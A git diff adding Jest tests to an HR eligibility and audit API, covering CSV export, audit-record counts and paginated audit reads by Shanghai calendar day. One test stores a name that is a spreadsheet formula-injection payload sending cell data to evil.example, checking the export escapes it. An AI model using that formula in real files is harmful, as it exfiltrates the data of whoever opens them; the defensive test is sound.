@@ -138,6 +138,20 @@ describe("many people at once", () => {
     expect(response.body.summary.mostCommonMissing.criterion).toBeTruthy();
   });
 
+  it("answers as CSV in which a name typed as a formula stays text", async () => {
+    const name = '=HYPERLINK("http://evil.example/?x="&A1,"杨雪")';
+    const put = await admin.put("/admin/people/formula-name", { name, tier: "base", tierSince: "2025-01-01", orgUnitId: "tianma-retail" });
+    expect(put.status).toBe(200);
+    const raw = await dispatch({
+      method: "POST",
+      url: "/eligibility-checks",
+      headers: { authorization: `Bearer ${hr.token}`, "content-type": "application/json", accept: "text/csv" },
+      body: JSON.stringify({ gateId: "base-to-middle", personIds: ["formula-name"] }),
+    });
+    const row = (raw.body as string).split("\r\n")[1] as string;
+    expect(row.startsWith(`formula-name,"'=HYPERLINK(""http://evil.example/?x=""&A1,""杨雪"")",`)).toBe(true);
+  });
+
   it("answers as CSV that a spreadsheet opens with Chinese names intact", async () => {
     const raw = await dispatch({
       method: "POST",
@@ -187,7 +201,7 @@ describe("access and audit", () => {
 
   it("every check is in the audit trail that admins read: who, about whom, which gate version, as of when, the outcome", async () => {
     await check("yang-xue", "base-to-middle", hr, yesterday);
-    const trail = await admin.get(`/admin/audit?day=${new Date().toISOString().slice(0, 10)}`);
+    const trail = await admin.get(`/admin/audit?day=${today}`);
     expect(trail.status).toBe(200);
     expect(trail.body.records).toContainEqual(
       expect.objectContaining({
@@ -205,9 +219,48 @@ describe("access and audit", () => {
   it("every admin change is in the audit trail too, refusals included, with ids and no names", async () => {
     await admin.post("/awards", { personId: "yang-xue", coins: 3, reason: "audit me" });
     await admin.post("/deductions", { personId: "yang-xue", coins: 1_000_000, reason: "too much" });
-    const { records } = (await admin.get(`/admin/audit?day=${new Date().toISOString().slice(0, 10)}`)).body;
+    const { records } = (await admin.get(`/admin/audit?day=${today}`)).body;
     expect(records).toContainEqual(expect.objectContaining({ actor: "cao-yi", action: "award", targets: ["yang-xue"], outcome: "201" }));
     expect(records).toContainEqual(expect.objectContaining({ actor: "cao-yi", action: "deduct", outcome: "insufficient-balance" }));
+  });
+
+  it("one action, one audit record: a check by an admin and a gate change are each recorded once", async () => {
+    const before = (await admin.get(`/admin/audit?day=${today}&limit=1000`)).body.records.length;
+    await admin.post("/eligibility-checks", { gateId: "base-to-middle", personIds: ["yang-xue"] });
+    await admin.put("/admin/gates/audited-once", {
+      name: { zh: "门槛", en: "Gate" },
+      tier: "base",
+      targetGrade: "x",
+      criteria: [{ kind: "points", atLeast: 1 }],
+    });
+    const records = (await admin.get(`/admin/audit?day=${today}&limit=1000`)).body.records;
+    expect(records.length - before).toBe(2);
+    expect(records.slice(0, 2).map((r: { action: string }) => r.action)).toEqual(["putGate", "eligibility-check"]);
+  });
+
+  it("reads a day of the company's calendar (Asia/Shanghai), newest first, a page at a time", async () => {
+    const log = new AuditLog(createDocumentClient(), tableNames.ledger);
+    const at = ["2026-03-01T15:59:59.999Z", "2026-03-01T16:00:00.000Z", "2026-03-02T10:00:00.000Z", "2026-03-02T16:00:00.000Z"];
+    for (const [i, instant] of at.entries())
+      await log.append({
+        auditId: `00000000-0000-4000-8000-00000000000${i}`,
+        at: instant,
+        actor: "cao-yi" as PersonId,
+        action: `a${i}`,
+        targets: [],
+        details: {},
+        outcome: "ok",
+      });
+    const pages: string[][] = [];
+    let cursor = "";
+    do {
+      const page = await admin.get(`/admin/audit?day=2026-03-02&limit=1${cursor ? `&cursor=${cursor}` : ""}`);
+      expect(page.status).toBe(200);
+      pages.push(page.body.records.map((r: { action: string }) => r.action));
+      cursor = page.body.cursor ?? "";
+    } while (cursor);
+    expect(pages.flat()).toEqual(["a2", "a1"]);
+    expect((await admin.get("/admin/audit?day=2026-03-02&cursor=bm90LWEtY3Vyc29y")).body.code).toBe("invalid-cursor");
   });
 
   it("a gate on a badge that does not exist is refused", async () => {
